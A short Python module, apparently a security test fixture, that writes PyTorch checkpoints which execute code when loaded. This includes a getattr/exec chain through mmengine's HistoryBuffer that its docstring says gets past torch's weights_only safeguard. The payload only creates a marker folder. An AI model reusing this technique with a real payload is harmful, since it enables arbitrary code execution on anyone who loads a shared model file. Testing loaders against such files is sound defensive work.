"""Checkpoints that make a folder when they are loaded the way pickle loads."""

import os
from pathlib import Path

import torch
from mmengine.logging import HistoryBuffer

MARK = 'code_was_run'


class Call:
    def __init__(self, function, *args, state=None) -> None:
        self.call = (function, args, state) if state else (function, args)

    def __reduce__(self):
        return self.call


def plain(folder: Path) -> Call:
    """What every warning about pickle shows."""
    return Call(os.mkdir, str(folder / MARK))


def through_getattr(folder: Path) -> Call:
    """Past torch's weights_only where getattr is allowed: an allowed object is given exec as its __setstate__."""
    exec_ = Call(getattr, Call(getattr, getattr, '__self__'), 'exec')
    holder = Call(HistoryBuffer, state={'inner': Call(HistoryBuffer, state={'__setstate__': exec_})})
    return Call(getattr, holder, 'inner', state=f'import os; os.mkdir({str(folder / MARK)!r})')


def write(kind, folder: Path, **rest) -> Path:
    """A checkpoint of that kind in the folder; ``rest`` is what else it holds."""
    path = folder / 'malicious.pth'
    torch.save({'state_dict': {}, **rest, 'meta': kind(folder)}, path)
    return path
